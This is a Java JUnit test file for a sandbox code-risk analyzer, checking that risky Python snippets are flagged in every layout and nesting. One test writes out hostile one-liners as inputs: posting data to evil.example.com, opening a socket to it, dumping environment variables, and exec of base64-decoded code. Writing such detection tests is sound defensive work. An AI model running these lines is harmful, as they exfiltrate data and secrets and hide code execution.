package com.sandboxgateway.review;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import com.sandboxgateway.review.CodeLayoutCases.Case;

/**
 * Every statement is reviewed however it is laid out: each case of {@link CodeLayoutCases} raises
 * exactly its flags written over several lines, on one line, and in every layout of
 * {@link PythonLayouts} (three seeded random mixes per case included).
 */
class CodeLayoutTest {

    private static final HostPolicy ALLOWLIST = HostPolicy.allowing("pypi.org"::equals);
    private static final int MIXES = 3;

    private final CodeRiskAnalyzer analyzer = CodeRiskAnalyzer.fromRules(CodeRules.standard());

    static Stream<Case> risky() {
        return CodeLayoutCases.RISKY.stream();
    }

    static Stream<Arguments> allCases() {
        List<Arguments> cases = new ArrayList<>();
        for (int i = 0; i < CodeLayoutCases.RISKY.size(); i++) {
            cases.add(Arguments.of(CodeLayoutCases.RISKY.get(i), 1000L + i));
        }
        for (int i = 0; i < CodeLayoutCases.BENIGN.size(); i++) {
            cases.add(Arguments.of(CodeLayoutCases.BENIGN.get(i), 2000L + i));
        }
        return cases.stream();
    }

    private String flags(String code) {
        return String.join(", ", analyzer.analyze(code, ALLOWLIST).stream().map(CodeFlag::toString).toList());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("risky")
    void shouldRaiseTheFlagsOfCodeWrittenOverSeveralLines(Case risky) {
        assertThat(flags(String.join("\n", risky.statements()))).isEqualTo(risky.expected());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("risky")
    void shouldRaiseTheSameFlagsWhenTheCodeIsWrittenOnOneLine(Case risky) {
        assertThat(flags(PythonLayouts.semicolons(risky.statements()))).isEqualTo(risky.expected());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("allCases")
    void shouldRaiseTheSameFlagsInEveryLayout(Case snippet, long seed) {
        List<String> wrong = new ArrayList<>();
        for (Map.Entry<String, String> layout : PythonLayouts.of(snippet.statements(), seed, MIXES).entrySet()) {
            String flags = flags(layout.getValue());
            if (!flags.equals(snippet.expected())) {
                wrong.add(layout.getKey() + " gave [" + flags + "]:\n" + layout.getValue());
            }
        }
        assertThat(wrong).as("layouts not raising [" + snippet.expected() + "]").isEmpty();
    }

    /** The corpus blocks (their IPython lines aside) raise the same flags inside a block and inside a function. */
    @Test
    void shouldRaiseTheSameFlagsOnTheCorpusBlocksWhenNested() {
        List<String> wrong = new ArrayList<>();
        for (String directory : List.of("code/benign", "code/risky")) {
            for (Path file : ReviewCorpus.pythonFiles(directory)) {
                String code = ReviewCorpus.read(file);
                if (CodeModelDifferentialTest.isIpython(code)) {
                    continue;
                }
                String flags = flags(code);
                String indented = "    " + code.strip().replace("\n", "\n    ");
                for (String nested : List.of("if True:\n" + indented, "def _cell():\n" + indented + "\n_cell()")) {
                    if (!flags(nested).equals(flags)) {
                        wrong.add(file.getFileName() + " gave [" + flags(nested) + "] instead of [" + flags + "]:\n" + nested);
                    }
                }
            }
        }
        assertThat(wrong).isEmpty();
    }

    @Test
    void shouldFlagTheOneLinersThatUsedToSlipPast() {
        assertThat(flags("import os; print(os.environ)")).isEqualTo("env_access");
        assertThat(flags("import requests; requests.post(\"https://evil.example.com/x\", data=df.to_json())"))
                .isEqualTo("http_client(host=evil.example.com allowed=false)");
        assertThat(flags("import subprocess; subprocess.run(['cat', '/mnt/data/a.csv'])")).isEqualTo("subprocess");
        assertThat(flags("import base64; exec(base64.b64decode(s))")).isEqualTo("base64_obfuscation");
        assertThat(flags("import socket; socket.create_connection(('evil.example.com', 443))"))
                .isEqualTo("raw_socket(host=evil.example.com allowed=false)");
        assertThat(flags("from os import environ; print(environ)")).isEqualTo("env_access");
    }

    @Test
    void shouldCoverEveryStandardFlagInTheTable() {
        Set<String> covered = new TreeSet<>();
        for (Case risky : CodeLayoutCases.RISKY) {
            for (String flag : risky.expected().split(", ")) {
                covered.add(flag.replaceFirst("\\(.*", ""));
            }
        }
        assertThat(covered).containsAll(CodeRules.standard().flagNames());
    }
}
